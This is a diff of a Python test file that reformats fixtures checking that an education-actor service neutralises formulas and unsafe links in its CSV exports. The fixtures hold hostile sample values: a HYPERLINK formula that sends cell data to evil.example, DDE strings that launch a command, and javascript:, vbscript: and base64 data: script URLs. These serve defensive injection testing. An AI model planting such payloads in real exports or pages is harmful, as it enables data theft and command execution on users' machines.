@@ -29,8 +29,12 @@ KENNUNG = "05114-hostile"
 NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
 PHONE = "+cmd|' /C calc'!A0"
 DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
-HOSTILE_IRIS = ("javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg",
-                "JaVaScRiPt:alert(3)", "vbscript:msgbox(4)")
+HOSTILE_IRIS = (
+    "javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg",
+    "JaVaScRiPt:alert(3)",
+    "vbscript:msgbox(4)",
+)
 
 
 @pytest.fixture(scope="module")
@@ -44,8 +48,11 @@ def hostile(service: BildungsGraph) -> Iterator[str]:
         (actor, URIRef(SCHEMA + "description"), Literal(DESCRIPTION)),
         (actor, URIRef(SCHEMA + "url"), Literal("javascript:alert(1)", datatype=XSD.anyURI)),
         (actor, URIRef(BASE + "ontology#areaServed"), URIRef(BASE + "id/kommune/05114")),
-        (actor, URIRef(BASE + "ontology#actorType"),
-         URIRef(BASE + "vocab/actor-type/education-office")),
+        (
+            actor,
+            URIRef(BASE + "ontology#actorType"),
+            URIRef(BASE + "vocab/actor-type/education-office"),
+        ),
         (actor, URIRef(SCHEMA + "sameAs"), URIRef("https://example.org/fine")),
         (actor, URIRef(SCHEMA + "sameAs"), URIRef("mailto:info@example.org")),
         *((actor, URIRef(SCHEMA + "sameAs"), URIRef(iri)) for iri in HOSTILE_IRIS),
@@ -85,8 +92,9 @@ def test_listing_csv_neutralises_formulas(client: TestClient, hostile: str) -> N
 
 
 def test_every_actor_listing_cell_is_safe(client: TestClient, hostile: str) -> None:
-    rows = _cells(client.get("/api/actors", params={"as": "csv", "kommune": "05114",
-                                                    "page_size": 500}).text)
+    rows = _cells(
+        client.get("/api/actors", params={"as": "csv", "kommune": "05114", "page_size": 500}).text
+    )
     assert any("'" + NAME in row for row in rows)
     _assert_formula_safe(rows)
 
